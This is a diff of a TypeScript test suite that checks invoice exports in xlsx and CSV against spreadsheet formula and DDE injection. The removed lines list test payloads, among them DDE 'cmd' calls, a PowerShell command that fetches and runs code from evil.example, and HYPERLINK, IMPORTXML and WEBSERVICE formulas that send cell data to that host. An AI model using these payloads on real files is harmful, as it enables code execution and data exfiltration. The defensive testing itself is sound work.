@@ -4,39 +4,16 @@ import { unzipSync, strFromU8 } from 'fflate';
 import { seedInvoices } from '../../src/data/sample.js';
 import type { Invoice } from '../../src/data/types.js';
 import { exportInvoices, type ExportColumn } from '../../src/export/index.js';
-
-/**
- * Spreadsheet formula and DDE injection (OWASP "CSV injection"): whatever a backend puts in a
- * row, an exported cell never starts a formula, and its text survives (with the leading
- * apostrophe the export adds to text a spreadsheet would evaluate).
- */
-export const FORMULA_PAYLOADS: readonly string[] = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(1+1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
-  "=cmd|' /C calc'!A0",
-  "+cmd|' /C powershell IEX(wget evil.example/x)'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-  "@cmd|'/C notepad'!'A1'",
-  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
-  '   =1+1',
-  '\u00a0=1+1',
-  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
-  '=WEBSERVICE("http://evil.example/"&A1)',
-  '"=1+1"',
-  ',=1+1',
-  '\uff1d1+1',
-  '=1+1\r\n=2+2',
-];
+import { FORMULA_PAYLOADS } from '../helpers/formula-payloads.js';
 
 /** The apostrophe rule src/export/cells.ts implements (OWASP): text that a spreadsheet would read as a formula. */
 const EVALUATED = /^\s*[=+\-@]|^[\t\r]/;
 const expected = (text: string) => (EVALUATED.test(text) ? `'${text}` : text);
+/**
+ * In CSV also after each comma, semicolon, tab and line break inside the text, where a reader
+ * with another separator starts a field (see test/export/csv-readers.test.ts).
+ */
+const csvExpected = (text: string) => expected(text).replace(/(\r\n|[,;\t\r\n])(?=[\s"]*[=+\-@])/g, "$1'");
 
 const TEXT_FIELDS = ['invoiceNumber', 'customerName', 'ocn', 'bcn', 'billingEntityName'] as const;
 
@@ -163,6 +140,7 @@ describe('formula injection through export', () => {
   it('keeps hostile column headers (partner wording) formula-safe in xlsx and CSV', async () => {
     const rows = payloadRows().slice(0, 1);
     const headers = hostileColumns().map((c) => expected(c.header));
+    const csvHeaders = hostileColumns().map((c) => csvExpected(c.header));
     const xlsx = await exportInvoices({ format: 'xlsx', columns: hostileColumns(), rows, meta });
     const workbook = XLSX.read(new Uint8Array(await xlsx.blob.arrayBuffer()), { type: 'array', cellFormula: true });
     const data = XLSX.utils.sheet_to_json<string[]>(workbook.Sheets[workbook.SheetNames[0] as string] as XLSX.WorkSheet, {
@@ -173,7 +151,7 @@ describe('formula injection through export', () => {
     expect(data[0], 'xlsx header row').to.deep.equal(headers);
     const csv = await exportInvoices({ format: 'csv', columns: hostileColumns(), rows, meta });
     const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(new Uint8Array(await csv.blob.arrayBuffer())).replace(/^\ufeff/, '');
-    expect(parseCsv(text)[0], 'CSV header row').to.deep.equal(headers);
+    expect(parseCsv(text)[0], 'CSV header row').to.deep.equal(csvHeaders);
   });
 
   it('keeps them as text in CSV: no field a spreadsheet would evaluate, each read back exactly', async () => {
@@ -186,7 +164,7 @@ describe('formula injection through export', () => {
       const line = table[r + 1] as string[];
       expect(line).to.have.length(columns.length);
       for (const field of line) {
-        expect(field).to.equal(expected(payload));
+        expect(field).to.equal(csvExpected(payload));
         expect(EVALUATED.test(field), JSON.stringify(field)).to.equal(false);
       }
     }
